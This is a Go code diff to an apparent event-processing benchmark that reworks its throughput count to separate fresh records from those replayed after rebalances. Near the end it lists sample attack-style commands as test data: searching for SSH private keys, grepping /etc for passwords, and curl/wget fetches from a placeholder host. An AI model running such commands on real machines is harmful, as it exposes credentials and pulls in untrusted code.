@@ -70,7 +70,7 @@ func run(events, partitions, instances, bursts int, every time.Duration) error {
 	for sc.Scan() {
 		line := bytes.Clone(sc.Bytes())
 		var m struct {
-			TS    time.Time `json:"@timestamp"`
+			TS    time.Time           `json:"@timestamp"`
 			Agent struct{ ID string } `json:"agent"`
 		}
 		json.Unmarshal(line, &m)
@@ -122,21 +122,36 @@ func run(events, partitions, instances, bursts int, every time.Duration) error {
 		wg.Add(1)
 		go func() { defer wg.Done(); m.Run(ctx) }()
 	}
-	consumed := func() int64 {
-		var n int64
+	// consumed counts fresh records (replays after a rebalance apart);
+	// stable is whether every member owns partitions.
+	consumed := func() (fresh, replayed int64, stable bool) {
+		stable = true
 		for _, m := range members {
-			for _, p := range m.Partitions() {
-				n += p.Events
+			ps := m.Partitions()
+			stable = stable && len(ps) > 0
+			for _, p := range ps {
+				fresh += p.Events - p.Replayed
+				replayed += p.Replayed
 			}
 		}
-		return n
+		return
 	}
-	for consumed() < total {
+	var stableAt time.Time
+	var atStable int64
+	for {
+		n, _, stable := consumed()
+		if stable && stableAt.IsZero() {
+			stableAt, atStable = time.Now(), n
+		}
+		if n >= total {
+			break
+		}
 		time.Sleep(10 * time.Millisecond)
 	}
-	elapsed := time.Since(start)
-	fmt.Printf("backlog: %d events, %d partitions, %d members: %.2fs, %.0f events/s (group join included)\n",
-		total, partitions, instances, elapsed.Seconds(), float64(total)/elapsed.Seconds())
+	end := time.Now()
+	_, replayed, _ := consumed()
+	fmt.Printf("backlog: %d events, %d partitions, %d members: %.2fs from start (group join included), %.0f events/s once every member owned partitions (%d events after it), %d records replayed by rebalances\n",
+		total, partitions, instances, end.Sub(start).Seconds(), float64(total-atStable)/end.Sub(stableAt).Seconds(), total-atStable, replayed)
 
 	cmds := []string{"whoami", "curl http://x/a", "find / -name id_rsa", "grep -r pass /etc", "wget http://x/b"}
 	sent := map[string]time.Time{}
